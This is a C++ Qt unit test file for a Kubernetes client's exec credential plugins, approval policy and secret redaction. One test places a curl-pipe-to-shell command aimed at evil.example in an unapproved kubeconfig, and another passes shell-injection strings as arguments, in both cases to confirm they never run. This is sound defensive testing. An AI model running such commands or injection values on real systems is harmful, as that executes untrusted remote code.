// Exec credential plugins, approvals and credential providers (behaviour reference §1 exec
// plugins, §6, §7 items 1, 2 and 9). The plugin is tests/unit/kube/data/plugin.sh.
#include "kube/credentials.h"
#include "kube/execapprovals.h"
#include "kube/execplugin.h"
#include "kube/redact.h"
#include "kubetesthelpers.h"

#include "sandbox/certs.h"

#include <nlohmann/json.hpp>

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <atomic>
#include <thread>

using namespace kd::kube;
using kd::testing::errorText;
using kd::testing::verifyNoSecret;
using kd::testing::writeFile;

namespace {

const QString kPlugin = QStringLiteral(KD_SOURCE_DIR "/tests/unit/kube/data/plugin.sh");
const QString kV1 = QStringLiteral("client.authentication.k8s.io/v1");
const QString kV1beta1 = QStringLiteral("client.authentication.k8s.io/v1beta1");

RestConfig execConfig(const QString &command = kPlugin, const QString &apiVersion = kV1) {
    RestConfig config;
    config.userName = QStringLiteral("alice");
    config.sourceFile = QStringLiteral("/home/u/.kube/config");
    config.server = QUrl(QStringLiteral("https://k.example:6443"));
    ExecConfig exec;
    exec.apiVersion = apiVersion;
    exec.command = command;
    exec.resolvedCommand = command;
    exec.interactiveMode = apiVersion == kV1 ? QStringLiteral("Never") : QString();
    config.exec = exec;
    return config;
}

void setEnv(RestConfig &config, const QString &name, const QString &value) {
    config.exec->env.append({name, value});
}

std::shared_ptr<ExecApprovals> allowAll(const QString &dir) {
    auto approvals = std::make_shared<ExecApprovals>(dir + QStringLiteral("/approvals.json"));
    approvals->setPolicy(ExecApprovals::Policy::AllowAll);
    return approvals;
}

int countRuns(const QString &file) {
    QFile f(file);
    if (!f.open(QIODevice::ReadOnly))
        return 0;
    return int(f.readAll().count('\n'));
}

// 0 when the provider failed, so a failure shows as a mismatch instead of an exception.
QByteArray tokenOf(const Result<Credential> &c) {
    return c.ok() ? c->bearerToken : QByteArray();
}
quint64 generationOf(const Result<Credential> &c) {
    return c.ok() ? c->generation : 0;
}

} // namespace

class TstExecPlugin final : public QObject {
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString path(const QString &name) const { return m_dir.filePath(name); }

private slots:
    void initTestCase() { QVERIFY(m_dir.isValid()); }

    void tokenForEachApiVersion_data() {
        QTest::addColumn<QString>("apiVersion");
        QTest::newRow("v1") << kV1;
        QTest::newRow("v1beta1") << kV1beta1;
    }
    void tokenForEachApiVersion() {
        QFETCH(QString, apiVersion);
        RestConfig config = execConfig(kPlugin, apiVersion);
        setEnv(config, QStringLiteral("PLUGIN_API_VERSION"), apiVersion);
        auto provider = makeCredentialProvider(config, allowAll(m_dir.path()));
        QVERIFY(provider->canRefresh());
        auto credential = provider->current();
        QVERIFY2(credential.ok(), qPrintable(errorText(credential)));
        QCOMPARE(credential->bearerToken, QByteArray("plugin-token-s3cr3t"));
        QCOMPARE(credential->generation, quint64(1));
        QVERIFY(credential->expiry.isValid());
        QVERIFY(credential->expiry > QDateTime::currentDateTimeUtc().addSecs(3000));
        QCOMPARE(redact(QStringLiteral("x plugin-token-s3cr3t y")),
                 QStringLiteral("x [redacted] y"));
    }

    void clientCertificateFromPlugin() {
        auto ca = kd::sandbox::makeCertificateAuthority("plugin-ca");
        auto client = kd::sandbox::issueCertificate(ca, "alice", {}, false, {});
        writeFile(path(QStringLiteral("plugin.crt")), QByteArray::fromStdString(client.certPem));
        writeFile(path(QStringLiteral("plugin.key")), QByteArray::fromStdString(client.keyPem));
        RestConfig config = execConfig();
        setEnv(config, QStringLiteral("PLUGIN_MODE"), QStringLiteral("cert"));
        setEnv(config, QStringLiteral("PLUGIN_CERT_FILE"), path(QStringLiteral("plugin.crt")));
        setEnv(config, QStringLiteral("PLUGIN_KEY_FILE"), path(QStringLiteral("plugin.key")));
        auto credential = makeCredentialProvider(config, allowAll(m_dir.path()))->current();
        QVERIFY2(credential.ok(), qPrintable(errorText(credential)));
        QCOMPARE(credential->clientCertPem, QByteArray::fromStdString(client.certPem));
        QCOMPARE(credential->clientKeyPem, QByteArray::fromStdString(client.keyPem));
        QCOMPARE(credential->bearerToken, QByteArray());
        QVERIFY(!credential->expiry.isValid());
    }

    // §7.2: arguments reach the plugin as argv, byte for byte; nothing is run by a shell.
    void argumentsArePassedLiterally() {
        const QString marker = path(QStringLiteral("injected"));
        const QStringList args = {QStringLiteral("a b"),
                                  QStringLiteral("$(touch %1)").arg(marker),
                                  QStringLiteral("`touch %1`").arg(marker),
                                  QStringLiteral("; touch %1").arg(marker),
                                  QStringLiteral("| cat && echo *"),
                                  QStringLiteral("'\"quoted\"'"),
                                  QStringLiteral("$HOME")};
        RestConfig config = execConfig();
        config.exec->args = args;
        setEnv(config, QStringLiteral("PLUGIN_MODE"), QStringLiteral("argv"));
        auto credential = makeCredentialProvider(config, allowAll(m_dir.path()))->current();
        QVERIFY2(credential.ok(), qPrintable(errorText(credential)));
        QCOMPARE(QString::fromUtf8(QByteArray::fromBase64(credential->bearerToken)),
                 args.join(u'\n') + u'\n');
        QVERIFY(!QFile::exists(marker));
    }

    void execInfoIsPassed_data() {
        QTest::addColumn<bool>("provideClusterInfo");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("without cluster info")
            << false
            << QByteArray("{\"apiVersion\":\"client.authentication.k8s.io/"
                          "v1\",\"kind\":\"ExecCredential\",\"spec\":{\"interactive\":false}}");
        QTest::newRow("with cluster info")
            << true
            << QByteArray("{\"apiVersion\":\"client.authentication.k8s.io/"
                          "v1\",\"kind\":\"ExecCredential\",\"spec\":{\"cluster\":{\"certificate-"
                          "authority-data\":\"Q0EtUEVN\",\"config\":{\"audience\":\"kd\"},"
                          "\"insecure-skip-tls-verify\":true,\"proxy-url\":\"socks5://"
                          "p.example:1080\",\"server\":\"https://"
                          "k.example:6443\",\"tls-server-name\":\"api.internal\"},\"interactive\":"
                          "false}}");
    }
    void execInfoIsPassed() {
        QFETCH(bool, provideClusterInfo);
        QFETCH(QByteArray, expected);
        RestConfig config = execConfig();
        config.caPem = "CA-PEM";
        config.insecureSkipTlsVerify = true;
        config.tlsServerName = QStringLiteral("api.internal");
        config.proxyUrl = QUrl(QStringLiteral("socks5://p.example:1080"));
        config.clusterExtensionJson = "{\"audience\":\"kd\"}";
        config.exec->provideClusterInfo = provideClusterInfo;
        setEnv(config, QStringLiteral("PLUGIN_MODE"), QStringLiteral("info"));
        auto credential = makeCredentialProvider(config, allowAll(m_dir.path()))->current();
        QVERIFY2(credential.ok(), qPrintable(errorText(credential)));
        const QByteArray info = QByteArray::fromBase64(credential->bearerToken);
        QCOMPARE(QByteArray::fromStdString(nlohmann::json::parse(info.toStdString()).dump()),
                 expected);
    }

    // §7.9 and the other ways a plugin can fail; every message is exact and holds no secret.
    void pluginFailures_data() {
        QTest::addColumn<QString>("mode");
        QTest::addColumn<QString>("apiVersionPrinted");
        QTest::addColumn<QString>("interactiveMode");
        QTest::addColumn<QString>(
            "message"); // after `/home/u/.kube/config: user "alice": exec plugin "<plugin>" `
        QTest::newRow("hangs") << QStringLiteral("hang") << kV1 << QStringLiteral("Never")
                               << QStringLiteral(
                                      "did not finish within 1.5 seconds and was stopped");
        QTest::newRow("floods stdout")
            << QStringLiteral("flood") << kV1 << QStringLiteral("Never")
            << QStringLiteral("printed more than 65536 bytes and was stopped");
        QTest::newRow("wrong apiVersion")
            << QStringLiteral("token") << kV1beta1 << QStringLiteral("Never")
            << QStringLiteral(
                   "returned apiVersion \"client.authentication.k8s.io/v1beta1\", but the "
                   "kubeconfig asks for \"client.authentication.k8s.io/v1\"");
        QTest::newRow("expiry in the past")
            << QStringLiteral("past") << kV1 << QStringLiteral("Never")
            << QStringLiteral("returned a credential that already expired at 2000-01-01T00:00:00Z");
        QTest::newRow("needs a TTY")
            << QStringLiteral("token") << kV1 << QStringLiteral("Always")
            << QStringLiteral("needs an interactive terminal (interactiveMode: Always), which "
                              "Kubedeck cannot provide; configure the plugin so that it works "
                              "without a terminal (interactiveMode Never or IfAvailable)");
        QTest::newRow("exits non-zero")
            << QStringLiteral("fail") << kV1 << QStringLiteral("Never")
            << QStringLiteral("exited with code 3: first line\nAuthorization: Bearer [redacted]\n"
                              "login failed");
        QTest::newRow("not JSON")
            << QStringLiteral("badjson") << kV1 << QStringLiteral("Never")
            << QStringLiteral("did not print an ExecCredential (its output is not a JSON object)");
    }
    void pluginFailures() {
        QFETCH(QString, mode);
        QFETCH(QString, apiVersionPrinted);
        QFETCH(QString, interactiveMode);
        QFETCH(QString, message);
        RestConfig config = execConfig();
        config.exec->interactiveMode = interactiveMode;
        const QString count = path(QStringLiteral("failures-") + mode + QStringLiteral(".count"));
        QFile::remove(count);
        setEnv(config, QStringLiteral("PLUGIN_MODE"), mode);
        setEnv(config, QStringLiteral("PLUGIN_API_VERSION"), apiVersionPrinted);
        setEnv(config, QStringLiteral("PLUGIN_COUNT_FILE"), count);
        CredentialOptions options;
        options.execTimeoutMs = 1500;
        options.maxExecOutputBytes = 64 * 1024;
        QElapsedTimer timer;
        timer.start();
        auto credential =
            makeCredentialProvider(config, allowAll(m_dir.path()), options)->current();
        QVERIFY(timer.elapsed() < 10'000);
        QVERIFY(!credential.ok());
        QCOMPARE(credential.error().kind, ErrorKind::Credential);
        QCOMPARE(credential.error().message,
                 QStringLiteral("/home/u/.kube/config: user \"alice\": exec plugin \"%1\" ")
                         .arg(kPlugin) +
                     message);
        verifyNoSecret(credential.error().message);
        QCOMPARE(countRuns(count), interactiveMode == u"Always" ? 0 : 1);
    }

    void executableNotFound() {
        RestConfig config = execConfig(QStringLiteral("gke-gcloud-auth-plugin"));
        config.exec->resolvedCommand.clear();
        config.exec->installHint =
            QStringLiteral("Install it with: gcloud components install gke-gcloud-auth-plugin");
        auto credential = makeCredentialProvider(config, allowAll(m_dir.path()))->current();
        QVERIFY(!credential.ok());
        QCOMPARE(credential.error().kind, ErrorKind::Credential);
        QCOMPARE(credential.error().message,
                 QStringLiteral("/home/u/.kube/config: user \"alice\": executable "
                                "\"gke-gcloud-auth-plugin\" not found. Install it with: gcloud "
                                "components install gke-gcloud-auth-plugin"));
    }

    void cachedUntilExpiry() {
        const QString count = path(QStringLiteral("cache.count"));
        const QString expiryFile = path(QStringLiteral("cache.expiry"));
        // Whole seconds, as RFC 3339 stamps from the plugin carry them.
        const QDateTime t0 =
            QDateTime::fromSecsSinceEpoch(QDateTime::currentSecsSinceEpoch(), Qt::UTC);
        auto clock = std::make_shared<QDateTime>(t0);
        writeFile(expiryFile, t0.addSecs(3600).toString(Qt::ISODate).toUtf8());
        RestConfig config = execConfig();
        setEnv(config, QStringLiteral("PLUGIN_COUNT_FILE"), count);
        setEnv(config, QStringLiteral("PLUGIN_EXPIRY_FILE"), expiryFile);
        CredentialOptions options;
        options.now = [clock] { return *clock; };
        auto provider = makeCredentialProvider(config, allowAll(m_dir.path()), options);
        QCOMPARE(generationOf(provider->current()), quint64(1));
        QCOMPARE(generationOf(provider->current()), quint64(1));
        *clock = t0.addSecs(3000);
        QCOMPARE(generationOf(provider->current()), quint64(1));
        QCOMPARE(countRuns(count), 1);
        // Expired (and a little before expiry): run again.
        *clock = t0.addSecs(3595);
        writeFile(expiryFile, t0.addSecs(7200).toString(Qt::ISODate).toUtf8());
        auto renewed = provider->current();
        QVERIFY2(renewed.ok(), qPrintable(errorText(renewed)));
        QCOMPARE(renewed->generation, quint64(2));
        QCOMPARE(renewed->expiry, t0.addSecs(7200));
        QCOMPARE(countRuns(count), 2);
        *clock = t0.addSecs(8000);
        writeFile(expiryFile, t0.addSecs(9000).toString(Qt::ISODate).toUtf8());
        QCOMPARE(generationOf(provider->current()), quint64(3));
        QCOMPARE(countRuns(count), 3);
    }

    void concurrentUnauthorizedRunsThePluginOnce() {
        const QString count = path(QStringLiteral("concurrent.count"));
        RestConfig config = execConfig();
        setEnv(config, QStringLiteral("PLUGIN_COUNT_FILE"), count);
        auto provider = makeCredentialProvider(config, allowAll(m_dir.path()));
        auto first = provider->current();
        QVERIFY(first.ok());
        QCOMPARE(first->generation, quint64(1));
        std::atomic<quint64> generations[2] = {0, 0};
        auto worker = [&](int i) {
            provider->unauthorized(1);
            auto c = provider->current();
            generations[i] = c.ok() ? c->generation : 0;
        };
        std::thread a(worker, 0);
        std::thread b(worker, 1);
        a.join();
        b.join();
        QCOMPARE(generations[0].load(), quint64(2));
        QCOMPARE(generations[1].load(), quint64(2));
        QCOMPARE(countRuns(count), 2);
        provider->unauthorized(1); // a late 401 of an old generation changes nothing
        QCOMPARE(generationOf(provider->current()), quint64(2));
        QCOMPARE(countRuns(count), 2);
        provider->unauthorized(2);
        QCOMPARE(generationOf(provider->current()), quint64(3));
        QCOMPARE(countRuns(count), 3);
    }

    // §7.1: a kubeconfig that runs a shell command is shown verbatim and never run unapproved.
    void unapprovedPluginNeverRuns_data() {
        QTest::addColumn<int>("policy");
        QTest::addColumn<int>("kind");
        QTest::addColumn<QString>("message");
        QTest::newRow("ask") << int(ExecApprovals::Policy::Ask) << int(ErrorKind::ExecNotApproved)
                             << QStringLiteral(
                                    "/home/u/.kube/config: user \"alice\": exec plugin "
                                    "\"/bin/sh\" needs your approval before Kubedeck runs it");
        QTest::newRow("deny all") << int(ExecApprovals::Policy::DenyAll)
                                  << int(ErrorKind::ExecNotApproved)
                                  << QStringLiteral(
                                         "/home/u/.kube/config: user \"alice\": exec plugin "
                                         "\"/bin/sh\" is not allowed by the exec plugin "
                                         "policy (DenyAll)");
        QTest::newRow("allowlist without it")
            << int(ExecApprovals::Policy::Allowlist) << int(ErrorKind::ExecNotApproved)
            << QStringLiteral(
                   "/home/u/.kube/config: user \"alice\": exec plugin \"/bin/sh\" is not "
                   "allowed by the exec plugin policy (Allowlist)");
    }
    void unapprovedPluginNeverRuns() {
        QFETCH(int, policy);
        QFETCH(int, kind);
        QFETCH(QString, message);
        const QString marker = path(QStringLiteral("pwned"));
        RestConfig config = execConfig(QStringLiteral("/bin/sh"));
        config.exec->args = {
            QStringLiteral("-c"),
            QStringLiteral("touch %1; curl -s https://evil.example/x.sh | sh").arg(marker)};
        setEnv(config, QStringLiteral("MY_TOKEN"), QStringLiteral("env-s3cr3t"));
        auto approvals = std::make_shared<ExecApprovals>(path(QStringLiteral("unapproved.json")));
        approvals->setPolicy(ExecApprovals::Policy(policy), {kPlugin});
        auto credential = makeCredentialProvider(config, approvals)->current();
        QVERIFY(!credential.ok());
        QCOMPARE(int(credential.error().kind), kind);
        QCOMPARE(credential.error().message, message);
        QVERIFY(!QFile::exists(marker));

        const ExecDescription d = approvals->describe(*config.exec);
        QCOMPARE(d.command, QStringLiteral("/bin/sh"));
        QCOMPARE(d.args, config.exec->args);
        QCOMPARE(d.env.size(), 1);
        QCOMPARE(d.env[0].first, QStringLiteral("MY_TOKEN"));
        QCOMPARE(d.env[0].second, QStringLiteral("********"));
        QCOMPARE(d.warning, QStringLiteral("This kubeconfig asks Kubedeck to run a program on your "
                                           "computer to get credentials; approve it only if you "
                                           "trust it."));
        QCOMPARE(d.workingDirectory, QDir::currentPath());
        QVERIFY(d.text().contains(
            QStringLiteral("touch %1; curl -s https://evil.example/x.sh | sh").arg(marker)));
        verifyNoSecret(d.text());
    }

    void describeMasksSecretLookingEnv_data() {
        QTest::addColumn<QString>("name");
        QTest::addColumn<bool>("masked");
        QTest::newRow("token") << QStringLiteral("GITHUB_TOKEN") << true;
        QTest::newRow("secret") << QStringLiteral("client_secret") << true;
        QTest::newRow("password") << QStringLiteral("DB_PASSWORD") << true;
        QTest::newRow("key") << QStringLiteral("AWS_SECRET_ACCESS_KEY") << true;
        QTest::newRow("api key") << QStringLiteral("ApiKey") << true;
        QTest::newRow("profile") << QStringLiteral("AWS_PROFILE") << false;
        QTest::newRow("region") << QStringLiteral("REGION") << false;
    }
    void describeMasksSecretLookingEnv() {
        QFETCH(QString, name);
        QFETCH(bool, masked);
        ExecApprovals approvals(path(QStringLiteral("describe.json")));
        RestConfig config = execConfig();
        setEnv(config, name, QStringLiteral("value-1"));
        const ExecDescription d = approvals.describe(*config.exec);
        QCOMPARE(d.env[0].second, masked ? QStringLiteral("********") : QStringLiteral("value-1"));
        QCOMPARE(d.sha256.size(), 64);
    }

    void approvalPersistsAndFollowsTheExecutable() {
        const QString plugin = path(QStringLiteral("copy/plugin.sh"));
        QDir().mkpath(path(QStringLiteral("copy")));
        QVERIFY(QFile::copy(kPlugin, plugin));
        const QString store = path(QStringLiteral("state/approvals.json"));
        const QString marker = path(QStringLiteral("approved-ran"));
        RestConfig config = execConfig(plugin);
        setEnv(config, QStringLiteral("PLUGIN_MARKER"), marker);
        {
            auto approvals = std::make_shared<ExecApprovals>(store);
            QCOMPARE(approvals->decide(*config.exec), ExecApprovals::Decision::NeedsApproval);
            auto refused = makeCredentialProvider(config, approvals)->current();
            QCOMPARE(refused.error().kind, ErrorKind::ExecNotApproved);
            QVERIFY(!QFile::exists(marker));
            QVERIFY(!approvals->approve(*config.exec));
            QVERIFY(approvals->isApproved(*config.exec));
            QCOMPARE(QFile::permissions(store),
                     QFile::ReadOwner | QFile::WriteOwner | QFile::ReadUser | QFile::WriteUser);
            auto ran = makeCredentialProvider(config, approvals)->current();
            QVERIFY2(ran.ok(), qPrintable(errorText(ran)));
            QVERIFY(QFile::exists(marker));
        }
        auto reloaded = std::make_shared<ExecApprovals>(store);
        QVERIFY(reloaded->isApproved(*config.exec));
        // The same path with other content is another program: approval is gone.
        QFile f(plugin);
        QVERIFY(f.open(QIODevice::Append));
        f.write("# changed\n");
        f.close();
        QVERIFY(!reloaded->isApproved(*config.exec));
        QVERIFY(!std::make_shared<ExecApprovals>(store)->isApproved(*config.exec));
        QVERIFY(!reloaded->approve(*config.exec));
        QVERIFY(reloaded->isApproved(*config.exec));
        QVERIFY(!reloaded->revoke(*config.exec));
        QVERIFY(!reloaded->isApproved(*config.exec));
        QVERIFY(!ExecApprovals(store).isApproved(*config.exec));
    }

    void allowlistApprovesListedPaths() {
        ExecApprovals approvals(path(QStringLiteral("allow.json")));
        RestConfig config = execConfig();
        approvals.setPolicy(ExecApprovals::Policy::Allowlist, {kPlugin});
        QCOMPARE(approvals.decide(*config.exec), ExecApprovals::Decision::Approved);
        approvals.setPolicy(ExecApprovals::Policy::AllowAll);
        QCOMPARE(approvals.decide(*execConfig(QStringLiteral("/bin/true")).exec),
                 ExecApprovals::Decision::Approved);
    }

    void tokenFileIsReread() {
        const QString tokenFile = path(QStringLiteral("rotating-token"));
        writeFile(tokenFile, "first-s3cr3t\n");
        RestConfig config;
        config.userName = QStringLiteral("alice");
        config.tokenFile = tokenFile;
        config.bearerToken = "static-s3cr3t";
        const QDateTime t0 = QDateTime::currentDateTimeUtc();
        auto clock = std::make_shared<QDateTime>(t0);
        CredentialOptions options;
        options.now = [clock] { return *clock; };
        options.tokenFileRereadSeconds = 60;
        auto provider = makeCredentialProvider(config, nullptr, options);
        QVERIFY(provider->canRefresh());
        QCOMPARE(tokenOf(provider->current()), QByteArray("first-s3cr3t"));
        writeFile(tokenFile, "second-s3cr3t\n");
        QCOMPARE(tokenOf(provider->current()), QByteArray("first-s3cr3t"));
        provider->unauthorized(1);
        auto second = provider->current();
        QVERIFY(second.ok());
        QCOMPARE(second->bearerToken, QByteArray("second-s3cr3t"));
        QCOMPARE(second->generation, quint64(2));
        writeFile(tokenFile, "third-s3cr3t\n");
        *clock = t0.addSecs(61);
        QCOMPARE(tokenOf(provider->current()), QByteArray("third-s3cr3t"));
        writeFile(
            tokenFile,
            "-----BEGIN OPENSSH PRIVATE KEY-----\nkey-s3cr3t\n-----END OPENSSH PRIVATE KEY-----\n");
        *clock = t0.addSecs(200);
        auto refused = provider->current();
        QVERIFY(!refused.ok());
        QCOMPARE(refused.error().kind, ErrorKind::Credential);
        QCOMPARE(
            refused.error().message,
            QStringLiteral("user \"alice\": tokenFile \"%1\" holds a private key or certificate, "
                           "not a bearer token; refusing to send it")
                .arg(tokenFile));
    }

    void staticCredentials() {
        RestConfig config;
        config.bearerToken = "static-s3cr3t-token";
        config.username = QStringLiteral("bob");
        config.password = "pw-s3cr3t";
        auto provider = makeCredentialProvider(config, nullptr);
        QVERIFY(!provider->canRefresh());
        auto c = provider->current();
        QCOMPARE(c->bearerToken, QByteArray("static-s3cr3t-token"));
        QCOMPARE(c->username, QStringLiteral("bob"));
        QCOMPARE(c->password, QByteArray("pw-s3cr3t"));
        provider->unauthorized(c->generation);
        QCOMPARE(generationOf(provider->current()), c->generation);
        QCOMPARE(redact(QStringLiteral("pw-s3cr3t static-s3cr3t-token")),
                 QStringLiteral("[redacted] [redacted]"));
    }
};

QTEST_GUILESS_MAIN(TstExecPlugin)
#include "tst_execplugin.moc"
